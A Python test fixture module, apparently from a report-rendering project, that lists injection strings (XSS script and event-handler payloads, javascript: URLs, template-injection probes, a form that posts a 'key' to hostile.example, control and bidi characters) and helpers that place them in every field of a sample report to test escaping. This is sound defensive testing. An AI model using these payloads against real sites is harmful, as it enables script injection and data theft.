"""What strangers may call their talk: strings that would break out of a page that trusted them, put everywhere."""

from __future__ import annotations

from typing import Any, Final, TypeVar

from pydantic import BaseModel
from tests import examples

from autointel.domain.analysis import Analysis
from autointel.domain.notes import EntityKind, EntityMention, Notes, RelationMention
from autointel.domain.report import Report, Results
from autointel.domain.run import Engine
from autointel.domain.transcript import Chapter
from autointel.domain.value import Confidence

Model = TypeVar("Model", bound=BaseModel)

OWNED: Final = "document.title='owned'"
NAUGHTY: Final = (
    f"<script>{OWNED}</script>",
    f"</script><script>{OWNED}</script>",
    f"</title><script>{OWNED}</script>",
    f"</style><script>{OWNED}</script>",
    f"--><script>{OWNED}</script><!--",
    f"<![CDATA[<script>{OWNED}</script>]]>",
    f"</text></svg><script>{OWNED}</script>",
    f'<svg onload="{OWNED}">',
    f"<svg><animate onbegin={OWNED} attributeName=x dur=1s>",
    f'<img src="http://hostile.example/x" onerror="{OWNED}">',
    f'" onmouseover="{OWNED}" autofocus onfocus="{OWNED}" x="',
    f"' onclick='{OWNED}' style='position:fixed;inset:0' x='",
    f"`onclick={OWNED}`",
    f'<iframe srcdoc="<script>parent.{OWNED}</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=http://hostile.example/">',
    '<base href="http://hostile.example/">',
    '<link rel="stylesheet" href="http://hostile.example/x.css">',
    '<form action="http://hostile.example/"><input name="key"></form>',
    "{{ 7 * 7 }}{% raw %}{# no #}${7*7}#{7*7}<%= 7*7 %>",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    f"javascript:{OWNED}",
    f" java\tscript:{OWNED}",
    f"data:text/html,<script>{OWNED}</script>",
    f'https://hostile.example/"><script>{OWNED}</script>',
    "https://hostile.example/' onclick='x",
    "&lt;script&gt; &#60;script&#62; &quot;&amp;",
    "\u202egnp.exe\u2066 \u200f\u061c \u200b\ufeff",
    "\x00\x01\x08\x0b\x0c\x1b[31mred\x1b]0;title\x07\x7f\x9b2J",
    "\ufdd0\ufffe\uffff\U0010ffff no characters",
    "line\nbreak\rreturn\u2028separator\u2029paragraph\u0085next",
    "Z" + "\u0335\u0321\u0354\u033e\u0301" * 200,
    "﷽" * 50,
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "العربية עברית",
    "unbroken" * 1_000,
    "<" * 5_000,
    "   ",
    "\u200b",
)


def everything() -> tuple[Report, Results]:
    """A run that has every section a page can have."""
    local, llm = examples.local_results(), examples.llm_results()
    found = Analysis.model_validate({**local.analysis.model_dump(), **_filled(llm.analysis.model_dump())})
    chapters = (Chapter(title="fares", start=0.0, end=1100.0), Chapter(title="gap", start=1100.0, approximate=True))
    entities = tuple(
        EntityMention(name=name, kind=EntityKind.PLACE, mentions=mentions, citations=(examples.cited(1),))
        for name, mentions in (("Tallinn", 12), ("Mara Lind", 7), ("Riga", 1))
    )
    relations = (
        RelationMention(
            subject="Tallinn",
            predicate="co-occurs with",
            object="Mara Lind",
            weight=3,
            confidence=Confidence.LOW,
            citation=examples.cited(1),
        ),
    )
    notes = Notes(method="model", entities=entities, relations=relations, chapters=chapters)
    results = examples.finished(
        llm.model_copy(update={"analysis": found, "notes": notes}), examples.judgments(), markdown="# A page\n"
    )
    return examples.report(results, Engine.LLM), results


def poisoned(model: Model, text: str) -> Model:
    """The same with ``text`` in the place of every string, addresses and all."""
    return type(model).model_validate(_replaced(model.model_dump(exclude=_COMPUTED), text))


_COMPUTED: Final = {"briefing": {"dropped_ungrounded"}}


def _replaced(value: Any, text: str) -> Any:
    # An enumeration's members are strings too, and stay.
    if type(value) is str:
        return text
    if isinstance(value, dict):
        return {key: _replaced(each, text) for key, each in value.items()}
    return tuple(_replaced(each, text) for each in value) if isinstance(value, list | tuple) else value


def _filled(fields: dict[str, Any]) -> dict[str, Any]:
    return {name: value for name, value in fields.items() if value}
